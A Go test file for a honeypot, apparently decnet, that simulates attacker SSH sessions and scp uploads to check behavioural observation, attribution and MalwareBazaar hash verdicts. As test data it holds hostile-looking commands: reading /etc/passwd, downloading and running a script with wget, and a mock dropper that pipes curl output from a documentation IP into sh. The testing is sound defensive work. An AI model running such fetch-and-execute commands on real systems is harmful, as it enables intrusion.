package node_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"golang.org/x/crypto/ssh"

	"github.com/decnet-go/decnet/internal/behave"
	"github.com/decnet-go/decnet/internal/intel"
	"github.com/decnet-go/decnet/internal/node"
	"github.com/decnet-go/decnet/internal/store"
	"github.com/decnet-go/decnet/internal/testkit"
)

// busLog collects the core NATS messages of some subjects.
type busLog struct {
	mu   sync.Mutex
	msgs map[string][]map[string]any
}

func listen(t *testing.T, nc *nats.Conn, subjects ...string) *busLog {
	t.Helper()
	l := &busLog{msgs: map[string][]map[string]any{}}
	for _, subj := range subjects {
		sub, err := nc.Subscribe(subj, func(m *nats.Msg) {
			var p map[string]any
			if json.Unmarshal(m.Data, &p) != nil {
				p = map[string]any{"undecodable": string(m.Data)}
			}
			l.mu.Lock()
			l.msgs[m.Subject] = append(l.msgs[m.Subject], p)
			l.mu.Unlock()
		})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { sub.Unsubscribe() })
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}
	return l
}

// with returns the messages whose subject starts with prefix.
func (l *busLog) with(prefix string) []map[string]any {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []map[string]any
	for s, ms := range l.msgs {
		if strings.HasPrefix(s, prefix) {
			out = append(out, ms...)
		}
	}
	return out
}

// shellSession logs in with a pty and a shell and types commands: one
// key at a time gap apart (gap > 0), or each whole line at once (a paste).
func shellSession(t *testing.T, addr, user, pw string, gap time.Duration, commands ...string) {
	t.Helper()
	cl, err := ssh.Dial("tcp", addr, &ssh.ClientConfig{User: user, Auth: []ssh.AuthMethod{ssh.Password(pw)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second})
	if err != nil {
		t.Fatalf("ssh login: %v", err)
	}
	defer cl.Close()
	sess, err := cl.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sess.RequestPty("xterm-256color", 40, 120, ssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	stdin, _ := sess.StdinPipe()
	var out strings.Builder
	var mu sync.Mutex
	sess.Stdout = writerFunc(func(p []byte) (int, error) { mu.Lock(); defer mu.Unlock(); return out.Write(p) })
	if err := sess.Shell(); err != nil {
		t.Fatal(err)
	}
	waitFor := func(n int) {
		deadline := time.Now().Add(5 * time.Second)
		for time.Now().Before(deadline) {
			mu.Lock()
			c := strings.Count(out.String(), "# ")
			mu.Unlock()
			if c >= n {
				return
			}
			time.Sleep(10 * time.Millisecond)
		}
		t.Fatalf("no prompt #%d; output:\n%s", n, out.String())
	}
	waitFor(1)
	for i, c := range commands {
		time.Sleep(700 * time.Millisecond) // reading the output, thinking
		line := c + "\r"
		if gap <= 0 {
			stdin.Write([]byte(line))
		} else {
			for j, r := range line {
				stdin.Write([]byte(string(r)))
				// An uneven human rhythm: a longer pause every few keys.
				d := gap
				if j%4 == 3 {
					d += gap / 2
				}
				time.Sleep(d)
			}
		}
		waitFor(i + 2)
	}
	stdin.Write([]byte("exit\r"))
	sess.Wait()
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

// TestIntelPipelineEndToEnd: two interactive ssh sessions from one source,
// one typed key by key and one pasted, become BEHAVE observations in the
// store and on the attacker detail, attribution state for the attacker's
// stub identity, and the bus messages of both stages.
func TestIntelPipelineEndToEnd(t *testing.T) {
	s := testkit.StartConfig(t, node.Config{Fleet: testkit.Fleet(2), Intel: &intel.Config{Enabled: false}})
	s.Login()
	bus := listen(t, s.Node.Bus.Conn(), "attacker.observation.>", "attribution.profile.>")
	addr := s.Addr("decky-01", "ssh")
	root, _ := s.Persona("decky-01").Account("root")

	shellSession(t, addr, "root", root.Password, 90*time.Millisecond, "uname -a", "cat /etc/passwd", "ls -la /tmp")
	shellSession(t, addr, "root", root.Password, 0, "wget http://203.0.113.9/x.sh", "chmod +x x.sh", "ls -la")

	var d struct {
		store.Attacker
		Observations []struct {
			Primitive  string          `json:"primitive"`
			Value      json.RawMessage `json:"value"`
			Confidence float64         `json:"confidence"`
			TS         float64         `json:"ts"`
			Source     string          `json:"source"`
		} `json:"observations"`
	}
	s.Eventually(10*time.Second, "observations of both sessions in the store", func() bool {
		a, ok := attackerWith(s, "ssh")
		if !ok {
			return false
		}
		pts, err := s.Node.Store.ObservationsTimeSeries(context.Background(), a.UUID, "motor.input_modality")
		if err != nil || len(pts) < 2 {
			return false
		}
		return s.Get("/api/v1/attackers/"+a.UUID, &d) == 200
	})
	ctx := context.Background()
	pts, _ := s.Node.Store.ObservationsTimeSeries(ctx, d.UUID, "motor.input_modality")
	modalities := map[string]bool{}
	for _, p := range pts {
		var v string
		json.Unmarshal(p.Value, &v)
		modalities[v] = true
	}
	if !modalities["typed"] || !modalities["pasted"] {
		t.Errorf("input modality over the two sessions = %v; want typed and pasted", modalities)
	}
	if len(d.Observations) < 5 {
		t.Fatalf("attacker detail has %d observations; want the session primitives", len(d.Observations))
	}
	for i := 1; i < len(d.Observations); i++ {
		if d.Observations[i-1].Primitive >= d.Observations[i].Primitive {
			t.Errorf("observations not sorted by primitive: %q before %q", d.Observations[i-1].Primitive, d.Observations[i].Primitive)
		}
	}
	for _, o := range d.Observations {
		if o.Source == "" || len(o.Value) == 0 || o.TS == 0 {
			t.Errorf("observation %+v lacks value, ts or source", o)
		}
	}

	// Attribution: the attacker's stub identity has a state per primitive,
	// counting both sessions where both observed it.
	var states []store.AttributionState
	s.Eventually(10*time.Second, "attribution state of both sessions", func() bool {
		id, err := s.Node.Store.EnsureStubIdentityForAttacker(ctx, d.UUID)
		if err != nil {
			return false
		}
		st, err := s.Node.Store.AttributionState(ctx, id, "motor.input_modality")
		if err != nil || st.ObservationCount != 2 {
			return false
		}
		states, err = s.Node.Store.AttributionStates(ctx, id)
		return err == nil
	})
	if len(states) < len(d.Observations) {
		t.Errorf("%d attribution states for %d observed primitives", len(states), len(d.Observations))
	}
	for _, st := range states {
		// Two observations are below MinObservationsForState for the
		// categorical and numeric mergers; the hash merger judges at once.
		if st.State != store.AttributionUnknown && behave.KindOf(st.Primitive) != behave.Hash {
			t.Errorf("state of %s = %s after two sessions; want unknown", st.Primitive, st.State)
		}
	}

	// Bus: one attacker.observation.<primitive> per new observation, and a
	// state_changed for each primitive's first state.
	s.Eventually(5*time.Second, "bus messages", func() bool {
		return len(bus.with("attacker.observation.motor.input_modality")) == 2 &&
			len(bus.with("attribution.profile.state_changed")) >= len(states)
	})
	for _, m := range bus.with("attacker.observation.") {
		if m["attacker_uuid"] != d.UUID || m["evidence_ref"] == nil || m["primitive"] == nil {
			t.Errorf("observation message %v: want attacker_uuid %s, evidence_ref and primitive", m, d.UUID)
			break
		}
	}
	var firsts int
	for _, m := range bus.with("attribution.profile.state_changed") {
		if m["old_state"] == nil && m["new_state"] != nil {
			firsts++
		}
	}
	if firsts != len(states) {
		t.Errorf("%d first-state messages for %d states", firsts, len(states))
	}
	var multi struct {
		Total int                `json:"total"`
		Data  []store.MultiActor `json:"data"`
	}
	if code := s.Get("/api/v1/identities/multi-actor", &multi); code != 200 || multi.Total != 0 || multi.Data == nil {
		t.Errorf("GET /identities/multi-actor = %d %+v; want 200 and an empty list", code, multi)
	}
}

// scpUpload copies content to dir on the decky with the scp protocol.
func scpUpload(t *testing.T, addr, pw, dir, name string, content []byte) {
	t.Helper()
	cl, err := ssh.Dial("tcp", addr, &ssh.ClientConfig{User: "root", Auth: []ssh.AuthMethod{ssh.Password(pw)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second})
	if err != nil {
		t.Fatalf("ssh login: %v", err)
	}
	defer cl.Close()
	sess, err := cl.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	stdin, _ := sess.StdinPipe()
	stdout, _ := sess.StdoutPipe()
	if err := sess.Start("scp -t " + dir); err != nil {
		t.Fatal(err)
	}
	ack := func(step string) {
		b := make([]byte, 1)
		if _, err := io.ReadFull(stdout, b); err != nil || b[0] != 0 {
			t.Fatalf("scp %s: ack %v %v", step, b, err)
		}
	}
	ack("start")
	fmt.Fprintf(stdin, "C0755 %d %s\n", len(content), name)
	ack("header")
	stdin.Write(content)
	stdin.Write([]byte{0})
	ack("content")
	stdin.Close()
	sess.Wait()
}

// TestMalwareBazaarVerdictEndToEnd: a file an attacker uploads whose
// sha256 is in the MalwareBazaar feed (served on loopback) is recorded as
// malicious and tagged T1588.001 (known malware captured); after a restart
// with a feed that no longer lists it, a second upload counts up but the
// verdict stays malicious.
func TestMalwareBazaarVerdictEndToEnd(t *testing.T) {
	payload := []byte("#!/bin/sh\n# pretend dropper\ncurl -s http://203.0.113.7/b | sh\n")
	sum := sha256.Sum256(payload)
	sha := hex.EncodeToString(sum[:])
	var listed atomic.Bool
	listed.Store(true)
	var gotKey atomic.Value
	feed := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotKey.Store(r.Header.Get("Auth-Key"))
		fmt.Fprintln(w, "# MalwareBazaar test export")
		fmt.Fprintln(w, strings.Repeat("ab", 32))
		if listed.Load() {
			fmt.Fprintln(w, sha)
		}
	}))
	t.Cleanup(feed.Close)
	cfg := func() *intel.Config {
		return &intel.Config{Enabled: true, MalwareBazaar: intel.MalwareBazaarConfig{
			ProviderConfig: intel.ProviderConfig{APIKey: "test-key", BaseURL: feed.URL}}}
	}
	s := testkit.StartConfig(t, node.Config{Fleet: testkit.Fleet(1), Intel: cfg()})
	root, _ := s.Persona("decky-01").Account("root")
	scpUpload(t, s.Addr("decky-01", "ssh"), root.Password, "/tmp", "dropper.sh", payload)

	ctx := context.Background()
	var a store.ObservedAttachment
	s.Eventually(10*time.Second, "the upload recorded as malicious", func() bool {
		var err error
		a, err = s.Node.Store.ObservedAttachment(ctx, sha)
		return err == nil && a.MalHashMatch != nil
	})
	if !*a.MalHashMatch || a.MalHashMatchProvider != "malwarebazaar" || a.ObservationCount != 1 || a.FirstSeenAttackerUUID == "" {
		t.Fatalf("observed attachment = %+v; want malicious by malwarebazaar, seen once, with its attacker", a)
	}
	if k, _ := gotKey.Load().(string); k != "test-key" {
		t.Errorf("feed request Auth-Key = %q", k)
	}
	// The tagger asks the same providers: known malware captured (R0058).
	s.Login()
	s.Eventually(10*time.Second, "T1588.001 on the attacker", func() bool {
		return techniques(s, a.FirstSeenAttackerUUID)["T1588.001"] > 0
	})

	// The feed drops the hash; a new start loads it afresh and the same
	// file comes again: benign by the feed now, malicious in the store.
	listed.Store(false)
	dir := s.DataDir
	s.Stop()
	s = testkit.StartConfig(t, node.Config{DataDir: dir, Intel: cfg()})
	scpUpload(t, s.Addr("decky-01", "ssh"), root.Password, "/tmp", "dropper-again.sh", payload)
	s.Eventually(10*time.Second, "the second sighting", func() bool {
		var err error
		a, err = s.Node.Store.ObservedAttachment(ctx, sha)
		return err == nil && a.ObservationCount == 2
	})
	if a.MalHashMatch == nil || !*a.MalHashMatch || a.MalHashMatchProvider != "malwarebazaar" {
		t.Errorf("after a benign answer the verdict is %+v; want it to stay malicious", a)
	}
}
